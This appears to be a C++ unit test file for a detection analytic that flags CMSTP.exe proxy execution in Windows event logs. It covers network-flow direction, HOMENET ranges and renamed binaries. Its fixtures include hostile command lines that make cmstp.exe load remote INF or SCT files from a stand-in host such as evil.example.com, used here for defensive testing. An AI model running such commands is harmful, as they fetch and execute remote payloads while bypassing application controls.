// CAR-2020-11-010 (CMSTP) variants. Events are built the way the Sysmon
// normalizer builds them; what each case must yield follows the analytic's
// published pseudocode (variant car) and docs/analytics/CAR-2020-11-010.md.
#include "analytics/car_2020_11_010.hpp"

#include <algorithm>

#include "catch.hpp"

using namespace evtxcar;

namespace {

car_event flow(std::string image, std::string src_ip, std::string dest_ip, std::string direction,
               std::string guid = "{11111111-2222-3333-4444-555555555555}") {
    car_event event;
    event.object = "flow";
    event.action = "start";
    event.set(car_field::hostname, "WS01");
    event.set(car_field::fqdn, "WS01.corp.example.com");
    event.set(car_field::exe, std::string(image.substr(image.find_last_of('\\') + 1)));
    event.set(car_field::image_path, image);
    event.set(car_field::guid, guid);
    event.set(car_field::src_ip, src_ip);
    event.set(car_field::src_port, "49700");
    event.set(car_field::dest_ip, dest_ip);
    event.set(car_field::dest_port, "443");
    event.set(car_field::network_direction, direction);
    return event;
}

car_event process_create(std::string image, std::string command_line, std::string original_file_name = "",
                         std::string guid = "{11111111-2222-3333-4444-555555555555}") {
    car_event event;
    event.object = "process";
    event.action = "create";
    event.set(car_field::hostname, "WS01");
    event.set(car_field::fqdn, "WS01.corp.example.com");
    event.set(car_field::exe, std::string(image.substr(image.find_last_of('\\') + 1)));
    event.set(car_field::image_path, image);
    event.set(car_field::guid, guid);
    event.set(car_field::command_line, command_line);
    event.set(car_field::original_file_name, original_file_name);
    return event;
}

struct evaluation {
    std::vector<std::string> variants;
    analytic_warnings warnings;
};

evaluation evaluate(const car_event& event, const process_index& processes = {},
                    analytic_settings settings = {}) {
    car_2020_11_010 cmstp(settings);
    detection_output found;
    evaluation result;
    const pid_tracker no_pids;
    cmstp.evaluate(event, process_context(processes, no_pids), found, result.warnings);
    for (const detection& d : found) {
        CHECK(d.analytic_id == "CAR-2020-11-010");
        CHECK(d.technique == "T1218.003");
        CHECK_FALSE(d.reason.empty());
        result.variants.push_back(d.variant);
    }
    std::sort(result.variants.begin(), result.variants.end());
    return result;
}

using variants = std::vector<std::string>;
const std::string system32 = "C:\\Windows\\System32\\CMSTP.exe";

}  // namespace

TEST_CASE("cmstp: the published analytic fires on an external src_ip", "[analytics][cmstp]") {
    // As published the analytic looks at src_ip; on an inbound connection that is the remote end.
    CHECK(evaluate(flow(system32, "203.0.113.5", "10.0.0.5", "inbound")).variants == variants{"car", "remote"});
    CHECK(evaluate(flow("c:\\WINDOWS\\system32\\CmStP.ExE", "203.0.113.5", "10.0.0.5", "inbound")).variants ==
          variants{"car", "remote"});
}

TEST_CASE("cmstp: the usual outbound fetch is caught by remote, not by the literal analytic", "[analytics][cmstp]") {
    CHECK(evaluate(flow(system32, "10.0.0.5", "203.0.113.5", "outbound")).variants == variants{"remote"});
    CHECK(evaluate(flow("C:\\Windows\\SysWOW64\\cmstp.exe", "192.168.1.20", "198.51.100.7", "outbound")).variants ==
          variants{"remote"});
    CHECK(evaluate(flow("C:\\Users\\Public\\cmstp.exe", "172.16.4.4", "2001:db8::7", "outbound")).variants ==
          variants{"remote"});
}

TEST_CASE("cmstp: the remote end is dest_ip outbound and src_ip inbound", "[analytics][cmstp]") {
    // Outbound to an inside address: the external src_ip is the local end and does not count for remote.
    CHECK(evaluate(flow("C:\\Windows\\SysWOW64\\cmstp.exe", "203.0.113.5", "10.0.0.5", "outbound")).variants.empty());
    // Inbound from an inside address to an external local address: nothing remote.
    CHECK(evaluate(flow("C:\\Windows\\SysWOW64\\cmstp.exe", "10.0.0.5", "203.0.113.5", "inbound")).variants.empty());
    // Direction not logged: either end outside HOMENET counts.
    CHECK(evaluate(flow("C:\\Windows\\SysWOW64\\cmstp.exe", "10.0.0.5", "203.0.113.5", "")).variants ==
          variants{"remote"});
}

TEST_CASE("cmstp: HOMENET boundaries decide", "[analytics][cmstp]") {
    struct boundary {
        const char* address;
        bool external;
    };
    for (const boundary& b : {boundary{"10.255.255.255", false}, boundary{"11.0.0.0", true},
                              boundary{"172.15.255.255", true}, boundary{"172.16.0.0", false},
                              boundary{"172.31.255.255", false}, boundary{"172.32.0.0", true},
                              boundary{"192.168.77.1", false}, boundary{"192.169.0.1", true}}) {
        CAPTURE(b.address);
        const variants expected = b.external ? variants{"car", "remote"} : variants{};
        CHECK(evaluate(flow(system32, b.address, "10.1.1.1", "inbound")).variants == expected);
    }
}

TEST_CASE("cmstp: addresses that are never external count as inside", "[analytics][cmstp]") {
    for (const char* address : {"127.0.0.1", "::1", "0:0:0:0:0:0:0:1", "0.0.0.0", "::", "169.254.3.3", "fe80::5",
                                "fe80:0:0:0:1c2d:3e4f:5a6b:7c8d", "224.0.0.252", "ff02::1:3", "255.255.255.255",
                                "fd00::1", "::ffff:10.9.9.9", "::ffff:127.0.0.1"}) {
        CAPTURE(address);
        CHECK(evaluate(flow(system32, address, address, "outbound")).variants.empty());
        CHECK(evaluate(flow(system32, address, address, "inbound")).variants.empty());
    }
    CHECK(evaluate(flow(system32, "::ffff:203.0.113.9", "10.0.0.1", "inbound")).variants == variants{"car", "remote"});
}

TEST_CASE("cmstp: an unparsable address is not external and is counted", "[analytics][cmstp]") {
    auto result = evaluate(flow(system32, "not-an-address", "10.0.0.1", "inbound"));
    CHECK(result.variants.empty());
    CHECK(result.warnings.unparsable_addresses == 1);
    REQUIRE(result.warnings.examples.size() == 1);
    CHECK(result.warnings.examples[0].find("not-an-address") != std::string::npos);
}

TEST_CASE("cmstp: other processes and other events do not fire", "[analytics][cmstp]") {
    CHECK(evaluate(flow("C:\\Windows\\System32\\svchost.exe", "203.0.113.5", "198.51.100.1", "inbound")).variants.empty());
    CHECK(evaluate(flow("C:\\Tools\\notcmstp.exe", "10.0.0.1", "198.51.100.1", "outbound")).variants.empty());
    car_event file_create = flow(system32, "203.0.113.5", "203.0.113.6", "outbound");
    file_create.object = "file";
    file_create.action = "create";
    CHECK(evaluate(file_create).variants.empty());
}

TEST_CASE("cmstp: a renamed cmstp.exe is recognised through its process create", "[analytics][cmstp]") {
    const std::string guid = "{AAAAAAAA-0000-0000-0000-000000000001}";
    process_index processes;
    processes.add({process_create("C:\\Users\\Public\\update.exe", "update.exe /ni /s x.inf", "CMSTP.EXE", guid)});
    const car_event renamed = flow("C:\\Users\\Public\\update.exe", "10.0.0.8", "203.0.113.50", "outbound", guid);
    CHECK(evaluate(renamed, processes).variants == variants{"remote"});
    CHECK(evaluate(renamed).variants.empty());  // without its process create there is nothing to go on
    // Another host with the same ProcessGuid is another process.
    car_event elsewhere = renamed;
    elsewhere.set(car_field::fqdn, "WS02.corp.example.com");
    CHECK(evaluate(elsewhere, processes).variants.empty());
}

TEST_CASE("cmstp: command lines naming remote resources", "[analytics][cmstp]") {
    for (const char* command : {"cmstp.exe /ni /s https://203.0.113.7/x.inf", "cmstp.exe /s HTTPS://evil.example.com/a.sct",
                                "cmstp.exe /ni /s http://downloads.example.com:8080/p.inf",
                                "cmstp.exe /s ftp://user@ftp.example.com/x.inf",
                                "cmstp.exe /ni /s \\\\203.0.113.7\\share\\x.inf",
                                "\"C:\\Windows\\System32\\cmstp.exe\" /s \\\\files.example.com\\public\\x.inf",
                                "cmstp.exe /s \\\\?\\UNC\\fileserver.example.com\\s\\x.inf",
                                "cmstp.exe /s http://[2001:db8::5]/x.inf"}) {
        CAPTURE(command);
        CHECK(evaluate(process_create(system32, command)).variants == variants{"cmdline-url"});
    }
    for (const char* command : {"cmstp.exe /ni /s C:\\Users\\bob\\AppData\\Local\\Temp\\x.inf", "cmstp.exe /au profile.inf",
                                "cmstp.exe /s \\\\.\\pipe\\x", "cmstp.exe /s \\\\?\\C:\\temp\\x.inf",
                                "cmstp.exe /s http://127.0.0.1/x.inf", "cmstp.exe /s http://localhost:8000/x.inf",
                                "cmstp.exe /s \\\\10.1.2.3\\share\\x.inf", "cmstp.exe /s https://192.168.1.1/x.inf"}) {
        CAPTURE(command);
        CHECK(evaluate(process_create(system32, command)).variants.empty());
    }
}

TEST_CASE("cmstp: cmdline-url needs cmstp.exe, by name or by OriginalFileName", "[analytics][cmstp]") {
    CHECK(evaluate(process_create("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f https://x.example.com/a"))
              .variants.empty());
    CHECK(evaluate(process_create("C:\\Users\\Public\\update.exe", "update.exe /s https://x.example.com/a.inf", "CMSTP.EXE"))
              .variants == variants{"cmdline-url"});
}

TEST_CASE("cmstp: --homenet replaces the default ranges", "[analytics][cmstp]") {
    analytic_settings settings;
    std::string error;
    settings.homenet = *parse_cidr_list("203.0.113.0/24", error);
    // 10.0.0.5 is no longer inside: as src_ip it makes the literal analytic fire.
    CHECK(evaluate(flow(system32, "10.0.0.5", "203.0.113.5", "outbound"), {}, settings).variants == variants{"car"});
    CHECK(evaluate(flow(system32, "10.0.0.5", "198.51.100.5", "outbound"), {}, settings).variants ==
          variants{"car", "remote"});
    CHECK(evaluate(flow(system32, "203.0.113.9", "198.51.100.5", "outbound"), {}, settings).variants ==
          variants{"remote"});
    // The never-external rules hold whatever HOMENET says.
    settings.homenet = *parse_cidr_list("203.0.113.0/24", error);
    CHECK(evaluate(flow(system32, "127.0.0.1", "10.0.0.1", "inbound"), {}, settings).variants == variants{});
}

TEST_CASE("cmstp: wants the process creates of cmstp.exe and of renamed copies", "[analytics][cmstp]") {
    car_2020_11_010 cmstp{analytic_settings{}};
    CHECK(cmstp.wants_process(process_create(system32, "cmstp.exe /s x.inf")));
    CHECK(cmstp.wants_process(process_create("C:\\x\\update.exe", "update.exe", "cmstp.exe")));
    CHECK_FALSE(cmstp.wants_process(process_create("C:\\Windows\\System32\\cmd.exe", "cmd.exe")));
}

TEST_CASE("cmstp: a Security 5156 flow with a device path and no ProcessGuid", "[analytics][cmstp]") {
    const std::string device_path = "\\device\\harddiskvolume2\\windows\\system32\\cmstp.exe";
    // Inbound from an external address: the published analytic matches below the volume.
    CHECK(evaluate(flow(device_path, "198.51.100.23", "10.20.0.15", "inbound", "")).variants == variants{"car", "remote"});
    CHECK(evaluate(flow(device_path, "10.20.0.15", "203.0.113.7", "outbound", "")).variants == variants{"remote"});
    // Another folder is not the published path, but still cmstp.exe.
    CHECK(evaluate(flow("\\device\\harddiskvolume2\\windows\\syswow64\\cmstp.exe", "198.51.100.23", "10.20.0.15",
                        "inbound", ""))
              .variants == variants{"remote"});
}

TEST_CASE("cmstp: a renamed copy is known through the process/create its pid joins", "[analytics][cmstp]") {
    // Sysmon logged the create (OriginalFileName CMSTP.EXE); Security logged the flow with only a pid.
    car_event create = process_create("C:\\Users\\tester\\vpnsetup.exe", "vpnsetup.exe /s x.inf", "CMSTP.EXE");
    create.set(car_field::pid, "6700");
    pid_tracker pids;
    pids.observe(create, true);
    const process_index no_guids;
    car_2020_11_010 cmstp(analytic_settings{});
    car_event security_flow =
        flow("\\device\\harddiskvolume2\\users\\tester\\vpnsetup.exe", "10.20.0.15", "203.0.113.7", "outbound", "");
    security_flow.set(car_field::pid, "6700");
    detection_output found;
    analytic_warnings warnings;
    cmstp.evaluate(security_flow, process_context(no_guids, pids), found, warnings);
    REQUIRE(found.size() == 1);
    CHECK(found[0].variant == "remote");
    CHECK(found[0].reason.find("renamed") != std::string::npos);

    // Without the join (another pid) the renamed copy is not recognized.
    security_flow.set(car_field::pid, "6704");
    found.clear();
    cmstp.evaluate(security_flow, process_context(no_guids, pids), found, warnings);
    CHECK(found.empty());
}

TEST_CASE("cmstp: what each variant needs to see, for the coverage report", "[analytics][cmstp]") {
    const auto listed = car_2020_11_010(analytic_settings{}).variants();
    REQUIRE(listed.size() == 3);
    CHECK(listed[0].name == "car");
    CHECK(listed[0].need.object == "flow");
    CHECK(listed[0].need.action == "start");
    CHECK(listed[1].name == "remote");
    CHECK(listed[1].need.object == "flow");
    CHECK(listed[2].name == "cmdline-url");
    CHECK(listed[2].need.object == "process");
    CHECK(listed[2].need.action == "create");
    CHECK(listed[2].need.field == car_field::command_line);
}
